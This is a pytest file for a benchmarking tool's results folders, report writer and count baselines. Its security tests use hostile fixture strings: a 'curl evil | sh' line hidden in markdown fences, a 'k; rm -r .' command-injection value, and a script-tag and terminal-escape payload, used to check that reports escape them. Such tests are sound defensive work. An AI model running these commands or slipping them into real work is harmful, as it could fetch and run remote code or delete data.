"""Folders of results: our own, other programs', and records that are read back."""

import json
import os
import re
import sqlite3
from contextlib import closing
from dataclasses import replace
from io import StringIO
from pathlib import Path
from typing import Final

import numpy as np
import pytest
import redis
import zstandard
from rich.console import Console

from bench.engine.cell import Cell
from bench.engine.folder import ResultsFolder, calls_of
from bench.engine.percentiles import merged, percentiles_of
from bench.engine.plan import PlannedCell
from bench.engine.record import EndLine, ResultFile, Run, SessionLine, as_line, read_results
from bench.engine.sale import Recorder
from bench.engine.servers import SessionServers, redis_of
from bench.engine.summary import Columns, fairness_of
from bench.micro.counts import REWRITE, Tally, count, differences, read_baseline, write_baseline
from bench.report import drawing
from bench.report.drawing import redraw
from bench.report.facts import Facts
from bench.report.markdown import reproduce
from bench.strategies.base import Answer, GaveUp, Refused, RefusedByGate, Sold
from segmented.errors import InvalidInput
from tests.support.bench.records import end_line, run, session_line
from tests.support.command_line import ran

SESSION = SessionLine(
    plan={},
    plan_sha256="0" * 64,
    plan_commit=None,
    is_quick=True,
    left_out=(),
    started_at="2026-11-22T04:00:00+00:00",
    environment={
        "code": {"commit": "a" * 40, "python": "3.11.7"},
        "machine": {"kernel": "6.1", "cpu_model": "a processor", "cores": 2},
        "servers": {"redis": {"version": "9.1.2", "embedded": True}},
    },
)


def on(**changes: object) -> SessionLine:
    """Return the session with one thing of its code or machine changed."""
    found = {
        part: {**values, **{key: value for key, value in changes.items() if key in values}}
        for part, values in SESSION.environment.items()
    }
    return SESSION.model_copy(update={"environment": found})


def test_a_folder_is_in_use_by_one_session_at_a_time(tmp_path: Path) -> None:
    with ResultsFolder(tmp_path / "a") as first:
        assert first.is_new()
        with pytest.raises(InvalidInput, match=r"^--report \S+ is in use by another session$"):
            ResultsFolder(tmp_path / "a")
    with ResultsFolder(tmp_path / "a"):
        pass


def test_what_is_written_is_read_back_and_a_cut_line_is_removed(tmp_path: Path) -> None:
    with ResultsFolder(tmp_path) as folder:
        folder.begin(SESSION, "the plan")
        folder.keep_rate("a cell", 12.5)
    with (tmp_path / "results.jsonl").open("a", encoding="utf-8") as file:
        file.write('{"schema":"segm')
    with ResultsFolder(tmp_path) as folder:
        assert not folder.is_new()
        assert folder.go_on(SESSION) == {}
        assert folder.rates == {"a cell": 12.5}
        folder.append(EndLine(finished_at="now", runs_planned=2, runs_done=0, stopped_by="interrupted"))
    lines = (tmp_path / "results.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["kind"] for line in lines] == ["session", "end"]


def test_results_of_somebody_else_are_refused_and_left_as_they_are(tmp_path: Path) -> None:
    for first in ("my own notes, without a newline", "[]\n", '{"schema":"segmented-bench/2"}\n{"cut'):
        file = tmp_path / "results.jsonl"
        file.write_text(first, encoding="utf-8")
        with pytest.raises(
            InvalidInput, match=r"its results\.jsonl is not one of segmented-bench/1: name a new folder"
        ):
            ResultsFolder(tmp_path)
        assert [one.name for one in tmp_path.iterdir()] == ["results.jsonl"]
        assert file.read_text(encoding="utf-8") == first


def test_a_session_under_other_conditions_does_not_go_on_there(tmp_path: Path) -> None:
    placed = SESSION.model_copy(update={"environment": SESSION.environment | {"placement": "anywhere"}})
    with ResultsFolder(tmp_path) as folder:
        folder.begin(SESSION, "the plan")
        for now, sentence in (
            (on(commit="b" * 40), f"has runs with another commit of the code ({'a' * 40}, this is {'b' * 40})"),
            (on(cores=4), "has runs with another number of cores (2, this is 4)"),
            (placed, "has runs with another placement (None, this is anywhere)"),
            (SESSION.model_copy(update={"is_quick": False}), "has runs with another profile (True, this is False)"),
        ):
            with pytest.raises(InvalidInput) as caught:
                folder.go_on(now)
            assert str(caught.value).startswith(f"--report {tmp_path} {sentence}")


def test_a_session_does_not_go_on_by_other_calibrations(tmp_path: Path) -> None:
    file = tmp_path / "calibrations.json"
    with ResultsFolder(tmp_path) as folder:
        folder.begin(SESSION, "the plan")
        folder.append(run())
        for text, sentence in (
            (None, " is missing, and the runs beside it were measured by it: name another folder"),
            ('["a cell"]', " is not a calibration file: 'list' object has no attribute 'items'"),
            ('{"a cell": null}', " is not a calibration file: "),
        ):
            if text is not None:
                file.write_text(text, encoding="utf-8")
            with pytest.raises(InvalidInput) as caught:
                folder.go_on(SESSION)
            assert str(caught.value).startswith(f"{file}{sentence}")


FIELDS = ("asked", "done", "sold", "sold_out", "failed")
MARKUP = "\x1b]0;x\x07<script>alert(1)</script>"
SHELL = "x`\n```\n\n```console\n$ curl evil | sh\n```\n"


@pytest.fixture
def without_figures(monkeypatch: pytest.MonkeyPatch) -> None:
    """Draw none: they take seconds."""
    monkeypatch.setattr(drawing, "FIGURES", ())


def test_no_text_of_a_results_file_becomes_a_line_to_run() -> None:
    session = session_line()
    environment = {**session.environment, "code": {"commit": SHELL, SHELL: SHELL}, SHELL: SHELL}
    foreign = session.model_copy(update={"environment": environment, "plan_sha256": SHELL, "sweeps": ("k; rm -r .",)})
    written = reproduce(Facts(ResultFile(session=foreign, runs=(run(),), end=end_line(1))))
    assert written.count("```") == 4
    assert [line for line in written.splitlines() if line.startswith("$ ")] == [
        "$ segmented bench granularity --sweep 'k; rm -r .' --plan plan.toml --report again",
        "$ segmented bench compare . again",
        "$ segmented bench report .",
    ]
    assert "Code: commit `-`. Plan: SHA-256 `-`, beside this file." in written


def test_a_report_is_not_written_through_a_link(tmp_path: Path) -> None:
    for name in ("report.html", "REPRODUCE.md", "SHA256SUMS", "figures"):
        folder, victim = tmp_path / f"session of {name}", tmp_path / "victim"
        folder.mkdir()
        victim.write_text("precious")
        (folder / name).symlink_to(victim)
        with pytest.raises(InvalidInput) as refused:
            redraw(folder, lambda *_: None)
        sentence = f"{folder} has a link, {folder / name}: remove it, since results are not written through links"
        assert str(refused.value) == sentence
        assert victim.read_text() == "precious"
        with pytest.raises(InvalidInput) as refused, ResultsFolder(folder):
            pass
        assert str(refused.value) == f"--report {sentence}"


def test_a_history_that_unpacks_to_more_than_allowed_is_refused_in_the_middle(tmp_path: Path) -> None:
    line = json.dumps(dict.fromkeys(FIELDS, 0.5)).encode() + b"\n"
    packed = zstandard.ZstdCompressor().compress(line * 60_000)
    (tmp_path / "history.zst").write_bytes(packed)
    assert len(packed) < 10_000
    kept = run().model_copy(update={"history": "history.zst"})
    with pytest.raises(InvalidInput, match=r"history\.zst, line [0-9]+: the file is larger than 1 MiB$"):
        calls_of(tmp_path, kept, FIELDS, size_max=1)
    calls = calls_of(tmp_path, kept, FIELDS, size_max=8)
    assert calls is not None
    assert len(calls["asked"]) == 60_000


def test_no_command_waits_for_a_pipe_in_place_of_a_file(tmp_path: Path) -> None:
    pipe = tmp_path / "results.jsonl"
    os.mkfifo(pipe)
    for command in (("lint",), ("compare", str(pipe)), ("granularity", "--plan")):
        done = ran("bench", *command, str(pipe), url=None)
        sentence = f"segmented: {pipe} cannot be read: it is not a plain file"
        assert (done.returncode, done.stderr.splitlines()[-1]) == (2, sentence)


@pytest.mark.usefixtures("without_figures")
def test_a_report_and_a_session_write_through_no_hard_link(tmp_path: Path) -> None:
    folder, victim = tmp_path / "session", tmp_path / "victim"
    folder.mkdir()
    victim.write_text("precious")
    (folder / "plan.toml").hardlink_to(victim)
    (folder / "report.html").hardlink_to(victim)
    (folder / "results.jsonl").write_text(
        as_line(session_line()) + as_line(run()) + as_line(end_line(1)), encoding="utf-8"
    )
    redraw(folder, lambda *_: None)
    assert "<html" in (folder / "report.html").read_text(encoding="utf-8")
    with ResultsFolder(folder) as held:
        held.begin(session_line(), "# a plan")
    assert (folder / "plan.toml").read_text(encoding="utf-8") == "# a plan"
    (folder / "results.jsonl").unlink()
    (folder / "results.jsonl").hardlink_to(victim)
    victim.write_text(as_line(session_line()), encoding="utf-8")
    with pytest.raises(InvalidInput, match=r"results\.jsonl has a second name elsewhere, a hard link: copy it"):
        ResultsFolder(folder)
    assert victim.read_text(encoding="utf-8") == as_line(session_line())


@pytest.mark.usefixtures("without_figures")
def test_no_text_of_a_results_file_becomes_html_or_controls_a_terminal(tmp_path: Path) -> None:
    session = session_line()
    environment = {**session.environment, MARKUP: MARKUP, "code": {"commit": MARKUP}, "placement": MARKUP}
    foreign = session.model_copy(update={"environment": environment, "plan_sha256": MARKUP})
    lines = [as_line(foreign), as_line(run()), as_line(end_line(1))]
    (tmp_path / "results.jsonl").write_text("".join(lines), encoding="utf-8")
    redraw(tmp_path, lambda *_: None)
    for name in ("report.html", "REPRODUCE.md"):
        written = (tmp_path / name).read_text(encoding="utf-8")
        assert "alert(1)" in written
        assert "<script>alert" not in written
        assert "\x1b" not in written


RATE: Final = r'("orders_per_s":)[0-9.]+'


def lines(*found: SessionLine | Run | EndLine) -> str:
    return "".join(as_line(one) for one in found)


def noted(*calls: tuple[int, float, float, list[Answer]]) -> Recorder:
    """Each call: buyer, asked, done, answers."""
    recorder, first = Recorder(), 1
    for buyer, asked, done, answers in calls:
        recorder.note(buyer, first, answers, intended=asked, asked=asked, done=done, quantity=1)
        first += len(answers)
    return recorder


def test_a_call_of_a_batch_is_one_line_of_the_history() -> None:
    answers: list[Answer] = [Sold(10.5, 10.75, 3, 2), Refused(7, 1), GaveUp("no lock"), RefusedByGate()]
    (line,) = noted((4, 10.0, 11.0, answers)).lines(began=9.0)
    assert json.loads(line) == {
        "first": 1, "buyer": 4, "intended": 1.0, "asked": 1.0, "granted": 1.5, "freed": 1.75, "done": 2.0,
        "sold": 1, "sold_out": 1, "failed": 2, "segment": 3, "attempts": 2,
    }  # fmt: skip


def test_one_buyer_who_gets_everything_is_the_least_fair() -> None:
    alone = noted((0, 0.0, 1.0, [Sold(0.25)] * 3), (1, 0.0, 1.0, [Refused(3, 1)]))
    even = noted((0, 0.0, 1.0, [Sold(0.5)]), (1, 0.0, 1.0, [Sold(0.125)]))
    found = [fairness_of(Columns(one), np.array([True, True]), buyers=2) for one in (alone, even)]
    assert [(one.jain, one.longest_wait_ms, one.by_buyer) for one in found] == [
        (0.5, 250.0, [3, 0]), (1.0, 500.0, [1, 1])
    ]  # fmt: skip


END = EndLine(finished_at="2026-01-01T00:00:00+00:00", runs_planned=1, runs_done=1, stopped_by=None)


def test_a_file_of_another_kind_is_refused(tmp_path: Path) -> None:
    file = tmp_path / "results.jsonl"
    with pytest.raises(InvalidInput, match=r"results\.jsonl cannot be read: No such file or directory$"):
        read_results(file)
    for text, said in (
        ("", "is not a result file of segmented-bench/1: its first line is not that of a session"),
        (as_line(END), "is not a result file of segmented-bench/1: its first line is not that of a session"),
        ("{\n", "line 1 is not JSON"),
        ('{"schema": "segmented-bench/2"}\n', "line 1 is of schema 'segmented-bench/2', and this reads"),
        ('{"schema": "segmented-bench/1", "kind": []}\n', "line 1 is of kind []; known are: session, run, end"),
        ('{"schema": "segmented-bench/1", "kind": "end"}\n', "line 1: finished_at: Field required"),
        ("[" * 100_000 + "\n", "line 1 is not JSON: nested too deep"),
        ("9" * 5_000 + "\n", "line 1 is not JSON: Exceeds the limit"),
        ("\x00\udcff", "is not a result file of segmented-bench/1: it is not text ("),
        (lines(session_line(), run(run=1), session_line()), "line 3: a second session begins there"),
        (as_line(session_line()) + re.sub(RATE, r"\1NaN", as_line(run())), "line 2 is not JSON: NaN is not a number"),
    ):
        file.write_bytes(text.encode("utf-8", "surrogateescape"))
        with pytest.raises(InvalidInput) as caught:
            read_results(file)
        assert str(caught.value).startswith(str(file))
        assert said in str(caught.value)


def test_a_url_of_something_else_is_no_redis_server() -> None:
    with pytest.raises(InvalidInput, match=r"^'amqp://localhost' is not a Redis URL: Redis URL must specify one of"):
        redis_of("amqp://localhost", is_embedded=False)


def test_a_database_of_another_kind_is_refused_and_left_as_it_is(valkey_url: str, tmp_path: Path) -> None:
    file = tmp_path / "orders.db"
    with (
        SessionServers(valkey_url, f"sqlite:///{file}") as servers,
        pytest.raises(InvalidInput, match=r"^--database: the bench commits to PostgreSQL, and this is sqlite$"),
    ):
        servers.prepare(database_connections=4)
    with closing(sqlite3.connect(file)) as connection:
        assert connection.execute("SELECT name FROM sqlite_master").fetchall() == []


def test_a_cell_without_a_delay_can_have_the_proxy_of_those_with_one(valkey_url: str) -> None:
    plain = Cell(strategy="segment-locks", section="none")
    urls = []
    with SessionServers(valkey_url, None) as servers:
        for cell in (plain, plain.model_copy(update={"proxied": True})):
            planned = PlannedCell(cell=cell, sweeps=("k",), seconds=1.0, warm_up=0.1)
            with servers.for_run(planned, cell) as run_servers, redis.Redis.from_url(run_servers.url) as client:
                urls.append((run_servers.url == run_servers.meter_url, client.ping()))
    assert urls == [(True, True), (False, True)]


TALLY: Final = Tally(orders=100, commands=1_700, round_trips=100, attempts=0, bytes=58_800)


def test_a_count_that_differs_is_named() -> None:
    cases: list[tuple[str, int, str]] = [
        ("commands", 1_800, "reserve: commands an order 17 -> 18: it went up"),
        ("round_trips", 101, "reserve: round trips an order 1 -> 1.01: it went up"),
        ("attempts", 1, "reserve: attempts an order 0 -> 0.01: it went up"),
        ("bytes", 58_801, "reserve: bytes an order 588 -> 588.01: it went up"),
        ("commands", 1_600, f"reserve: commands an order 17 -> 16: it went down; {REWRITE}"),
        ("orders", 50, f"reserve was counted over 100 orders, and now over 50: {REWRITE}"),
    ]
    for field, value, sentence in cases:
        assert differences({"reserve": replace(TALLY, **{field: value})}, {"reserve": TALLY}) == [sentence]


def test_a_file_that_is_no_baseline_is_refused(tmp_path: Path) -> None:
    file = tmp_path / "baseline.json"
    for text, said in (
        ("{", "is not a baseline of counts"),
        ('{"schema": "other/1"}', "is of schema 'other/1', and this reads 'segmented-counts/1'"),
        ('{"schema": "segmented-counts/1", "counts": {"reserve": {"orders": 1}}}', "is not a baseline of counts"),
    ):
        file.write_text(text)
        with pytest.raises(InvalidInput, match=said):
            read_baseline(file)


def test_the_command_names_what_went_up_and_writes_a_baseline_on_request(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("bench.micro.counts.measure", lambda: {"reserve": replace(TALLY, server_us=5_000)})
    file, said = tmp_path / "baseline.json", StringIO()
    console = Console(file=said)
    assert count(console, writes=True, file=file) == 0
    assert count(console, file=file) == 0
    write_baseline(file, {"reserve": replace(TALLY, commands=1_600)})
    assert count(console, file=file) == 1
    shown = "reserve: commands 17, round trips 1, attempts 0, bytes 588, server us 50"
    assert said.getvalue().splitlines() == [
        shown,
        f"1 operations written to {file}",
        shown,
        "all counts of 1 operations are as in the baseline",
        shown,
        "reserve: commands an order 16 -> 17: it went up",
    ]


def test_equal_counts_say_nothing_whatever_the_time() -> None:
    assert differences({"reserve": replace(TALLY, server_us=9)}, {"reserve": TALLY}) == []


def test_percentiles_without_ten_samples_beyond_are_not_told() -> None:
    found = percentiles_of(np.full(999, 0.002))
    assert (found.n, found.p50, found.p90, found.p99, found.p999) == (999, 2.0, 2.0, None, None)
    more = percentiles_of(np.full(100_000, 0.002))
    assert (more.p99, more.p999, more.p9999, more.max, more.mean, more.cv) == (2.0, 2.0, 2.0, 2.0, 2.0, 0.0)


def test_histograms_are_added_and_not_averaged() -> None:
    slow, fast = percentiles_of(np.full(100, 0.1)), percentiles_of(np.full(900, 0.001))
    both = merged([slow.encoded, fast.encoded])
    assert (both.n, both.p50, both.p90) == (1_000, 1.0, 1.0)
    assert merged([]).p50 is None
